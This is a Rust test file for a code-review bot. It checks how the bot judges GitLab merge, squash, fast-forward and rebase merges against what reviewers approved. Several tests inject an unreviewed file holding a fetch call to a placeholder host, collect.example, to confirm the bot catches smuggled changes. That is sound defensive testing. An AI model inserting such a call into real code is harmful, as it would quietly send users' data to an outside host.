//! The ways in which GitLab merges.

use cm_bot::model::TicketKey;
use cm_bot::simulator::scene::Variant;

use super::{attack, change, change_in, end, is_approved, is_held, with_squashes};
use crate::support::TestScene;

const MERGE: &str = "merge = { pull_request = 871, by = \"dana\", commit = \"merged\" }";

/// The scene merges in one way, the twin in another.
fn merged(scene: TestScene, how: &str, twin: &str) -> TestScene {
    let merge = |how: &str| MERGE.replace(" }", &format!("{how} }}"));
    let both = format!("only = \"scene\"\n{}\n[[timeline]]\nonly = \"twin\"\n{}", merge(how), merge(twin));
    scene.with(MERGE, &both)
}

#[tokio::test(flavor = "multi_thread")]
async fn twin_a_merge_commit_is_approved_and_its_links_lead_to_gitlab() {
    let (played, outcome) = end(change(), Variant::Twin).await;
    let text = outcome.comment_text();
    assert_eq!(outcome.verdict_words(), "Approved automatically", "{}\n{text}", outcome.why());
    assert!(text.contains("Clocks agree | [PASSED] | as GitLab's"), "{text}");
    assert!(text.contains("2 commits, all reviewed; approvals are bound by reconstruction"), "{text}");
    let stored = played
        .app
        .context
        .sources
        .store
        .newest_decision(&TicketKey::parse(super::TICKET).unwrap())
        .await
        .unwrap()
        .unwrap();
    assert!(stored.facts.pull_request_url(871).ends_with("/acme/shop/billing-api/-/merge_requests/871"));
    played.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_merge_that_carries_changes_of_its_own() {
    let evil = ", carries = { \"src/late.js\" = \"fetch('https://collect.example');\\n\" }";
    attack(
        merged(change(), evil, ""),
        &["is a merge that carries changes of its own, which nobody reviewed, in src/late.js"],
    )
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_squash_with_a_merge_commit_holds_what_was_reviewed() {
    let evil = ", method = \"squash\", carries = { \"src/late.js\" = \"fetch('https://collect.example');\\n\" }";
    let scene = merged(with_squashes(change()), evil, ", method = \"squash\"");
    attack(scene, &["holds something else than what was reviewed, in src/late.js"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_squash_without_a_merge_commit_holds_what_was_reviewed() {
    let evil = ", method = \"squash\", carries = { \"src/late.js\" = \"fetch('https://collect.example');\\n\" }";
    let scene = change_in("gitlab_merge = \"fast_forward\"");
    let scene = merged(with_squashes(scene), evil, ", method = \"squash\"");
    attack(scene, &["holds something else than what was reviewed, in src/late.js"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_squash_is_for_a_human_where_the_criteria_say_so() {
    let scene = merged(change(), ", method = \"squash\"", "");
    attack(scene, &["Pull request 871 was squashed into one new commit"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn twin_a_fast_forward_brings_the_commits_themselves() {
    is_approved(change_in("gitlab_merge = \"fast_forward\"")).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn twin_a_semi_linear_merge_is_a_merge() {
    is_approved(change_in("gitlab_merge = \"semi_linear\"")).await;
}

/// The button "Rebase" makes new commits, and GitLab keeps the approvals.
#[tokio::test(flavor = "multi_thread")]
async fn an_approval_before_a_rebase_does_not_count() {
    let other = "\n[[commits]]\nid = \"other\"\nparents = [\"v1\"]\nauthor = \"sam\"\nfiles = { \"src/other.js\" = \"1;\\n\" }\n";
    let scene = super::before_the_merge(
        change_in("gitlab_merge = \"fast_forward\""),
        (other, "[[timeline]]\npush = { branch = \"main\", commit = \"other\" }"),
    );
    let scene = scene.with(MERGE, &MERGE.replace(" }", ", method = \"rebase\" }"));
    is_held(scene, &["the approval by Lee Wong does not count: given for"]).await;
}
